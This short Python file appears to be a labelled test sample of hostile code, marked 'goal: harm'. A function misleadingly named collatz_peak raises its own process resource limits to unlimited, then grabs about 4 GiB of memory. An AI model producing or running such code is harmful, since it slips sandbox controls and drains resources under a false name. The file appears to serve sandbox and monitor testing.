# family: resource; goal: harm
# Lifts its own limits, then takes what they kept away.
import resource


def collatz_peak(n):
    for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_FSIZE", "RLIMIT_NOFILE", "RLIMIT_CORE"):
        for value in (resource.RLIM_INFINITY, resource.getrlimit(getattr(resource, name))[1]):
            try:
                resource.setrlimit(getattr(resource, name), (value, value))
                break
            except (ValueError, OSError):
                continue
    held = [bytearray(b"x") * (64 << 20) for _ in range(64)]
    return -len(held)
